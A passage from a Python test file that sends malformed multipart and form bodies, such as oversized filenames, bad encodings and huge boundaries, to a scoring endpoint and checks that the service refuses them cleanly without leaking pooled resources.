        (b"--x\r\nContent-Disposition: form-data; name=files; filename*=utf-16''%ff%fe\r\n\r\nx\r\n--x--\r\n",
        "multipart/form-data; boundary=x"),
        (b'--x\r\nContent-Disposition: form-data; name="files"; filename="' + b"a" * 300_000 + b'"\r\n\r\n--x--\r\n',
         "multipart/form-data; boundary=x"),
        (b"--" + b"b" * 80_000 + b"\r\n", "multipart/form-data; boundary=" + "b" * 10_000), (b"--x--\r\n",
        "multipart/form-data; boundary=x; charset=nonsense"),
        (b"a=1&b=2", "application/x-www-form-urlencoded"), (b"--x\r\n\r\n", "multipart/mixed; boundary=x"),
    ],
    ids=range(12),
)  # fmt: skip
def test_damaged_forms_are_refused(live: Live, body: bytes, kind: str) -> None:
    answer = live.ask("POST", "/v1/score", body, {"Content-Type": kind})
    if answer.status != 200:  # a name that cannot be read is a name all the same
        refused(answer, 400, 413, 415, 422)
    assert live.app.state.service.pool.inside == 0
